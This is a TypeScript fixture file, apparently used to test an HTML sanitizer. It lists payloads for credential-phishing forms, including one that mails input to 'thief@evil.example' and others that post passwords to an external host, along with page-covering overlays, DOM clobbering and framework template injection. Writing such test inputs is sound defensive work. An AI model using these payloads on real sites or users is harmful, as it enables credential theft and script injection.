import { type Attack, attacks, elsewhere, run } from './attack.ts';

/** Attacks that capture input, imitate the page, or interfere with its scripts. */
export const deceiving: Attack[] = [
  ...attacks('form', {
    'for a password': `<form action="${elsewhere}/login" method="post">Your session ended. <input name="password" type="password" autofocus><button>Sign in</button></form>`,
    'of this server': `<form action="/api/v1/logout" method="post"><button autofocus accesskey="x">Unsubscribe</button></form>`,
    'sent from outside of it': `<form id="f" action="${elsewhere}/f"></form><input form="f" name="a" value="b"><button form="f" type="submit" formtarget="_top">Send</button>`,
    'by mail': `<form action="mailto:thief@evil.example" enctype="text/plain"><input name="a"><input type="submit"></form>`,
    'that fills itself in': `<input autocomplete="cc-number" name="cc"><input autocomplete="current-password" type="password"><select autocomplete="country"><option>x</select>`,
    'with a file': `<input type="file" webkitdirectory><input type="color"><input type="date">`,
    'one in another': `<form><div><form action="${elsewhere}/inner"><button>Send</button></form></div></form>`,
    searching: `<isindex action="javascript:${run}" prompt="Password"><search><input type="search"></search>`,
    'with a generated key': `<keygen name="k" challenge="x"><output for="a">1</output><meter value=1></meter><progress></progress>`,
  }),
  ...attacks('overlay', {
    'fixed over everything': `<div style="position:fixed;inset:0;background:#fff;z-index:99999"><a href="${elsewhere}/login">Sign in again</a></div>`,
    'fixed by a class': `<style>.x{position:fixed;inset:0}</style><div class="x mail-detail modal" id="root">Sign in again</div>`,
    popover: `<div popover="auto" id="p" style="inset:0">x</div><button popovertarget="p" popovertargetaction="show" autofocus>Open</button>`,
    'by invoking': `<button commandfor="d" command="show-modal">Open</button><dialog id="d">Password?</dialog>`,
    dialog: `<dialog open style="inset:0">Your password, please</dialog>`,
    'in full screen': `<iframe allowfullscreen src="${elsewhere}/full"></iframe><video controls src="${elsewhere}/v"></video>`,
    'by a very wide picture': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="99999" height="99999" style="position:fixed">`,
    'that moves': `<marquee behavior="alternate" scrollamount="999">Act now</marquee><blink>now</blink>`,
    'by an editable text': `<div contenteditable="true" autofocus tabindex="0" accesskey="a" draggable="true" inert>Type here</div>`,
    'by many lines': `${'<br>'.repeat(4000)}<p>The end</p>`,
    'by a base for targets': `<base target="_parent"><a href="https://example.com/">Press me</a>`,
    'by a role': `<div role="alert" aria-live="assertive" aria-label="Signed out" slot="x" part="y">words</div>`,
  }),
  ...attacks('clobbering', {
    'of the document': `<img name="body"><img name="cookie"><form name="getElementById"></form><img name="createElement">`,
    'of globals': `<a id="__hacked" href="x:1"></a><a id="location" name="location" href="${elsewhere}/"></a><img id="userData" name="userData">`,
    'of a form': `<form><input name="attributes"><input name="childNodes"><input name="parentNode"><input name="nodeName" onfocus="${run}" autofocus></form>`,
    'of its own cleaning': `<form onmouseover="${run}"><input name="attributes"><input name="removeAttribute"><input name="hasChildNodes">words</form>`,
    'of two of one name': `<a id="config"></a><a id="config" name="url" href="${elsewhere}/a.js"></a>`,
    'of a window': `<iframe name="top" srcdoc="<a id=__hacked></a>"></iframe><iframe name="opener" src="about:blank"></iframe>`,
    'of prototypes': `<a id="__proto__" name="constructor"></a><img name="hasOwnProperty" id="toString">`,
    'of parents': `<form id="ownerDocument"><output name="implementation" id="implementation">x</output></form>`,
    'of the page’s ids': `<div id="root"></div><div id="mantine-portal"></div><meta name="n" nonce="x"><script id="boot" type="application/json">{}</script>`,
    'of frameworks': `<div data-reactroot ng-app ng-csp v-html="'x'" x-data="${run}" hx-get="${elsewhere}/hx" data-bind="html:1">{{constructor.constructor('${run}')()}}</div>`,
    'of is and custom elements': `<button is="x-evil" onclick="${run}">x</button><x-evil src="${elsewhere}/x"></x-evil><atrium-mail></atrium-mail>`,
    'of microdata': `<div itemscope itemtype="${elsewhere}/t"><link itemprop="url" href="${elsewhere}/u"><meta itemprop="a" content="b"></div>`,
  }),
];
